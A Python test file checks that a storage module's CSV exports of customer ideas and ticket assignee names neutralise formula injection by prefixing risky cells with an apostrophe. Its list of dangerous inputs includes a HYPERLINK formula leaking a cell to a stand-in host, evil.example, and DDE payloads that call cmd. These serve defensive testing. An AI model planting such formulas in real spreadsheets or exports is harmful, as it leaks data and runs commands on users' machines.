"""CSV exports never hand a spreadsheet a formula: OWASP's neutralisation of every cell."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from storage.db import Database
from storage.exports import ideas_csv, tickets_csv
from storage.models import Customer, Idea, Ticket

NOW = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
DANGEROUS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
HARMLESS = ("A family plan for 4 SIMs", "5G at home, please = faster", "")


def rows_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


@pytest.mark.parametrize("text", DANGEROUS)
async def test_an_idea_or_a_name_that_starts_a_formula_is_exported_as_text(
    db: Database, text: str
) -> None:
    async with db.session() as session:
        customer = Customer(telegram_user_id=1, created_at=NOW, last_seen_at=NOW)
        session.add(customer)
        await session.flush()
        assert customer.id is not None
        for idea_text in (text, *HARMLESS):
            session.add(
                Idea(
                    customer_id=customer.id,
                    text=idea_text,
                    topic="plans",
                    language="en",
                    created_at=NOW,
                )
            )
        session.add(
            Ticket(
                customer_id=customer.id,
                topic="billing",
                sentiment="negative",
                language="en",
                assignee_name=text,
                opened_at=NOW,
            )
        )
        await session.commit()
        start, end = NOW - timedelta(days=1), NOW + timedelta(days=1)
        ideas = rows_of(await ideas_csv(session=session, start=start, end=end))
        tickets = rows_of(await tickets_csv(session=session, start=start, end=end, sla_minutes=60))
    assert [row["text"] for row in ideas] == ["'" + text, *HARMLESS]
    assert tickets[0]["assignee"] == "'" + text
    assert tickets[0]["reference"].startswith("T-")  # other cells as they were
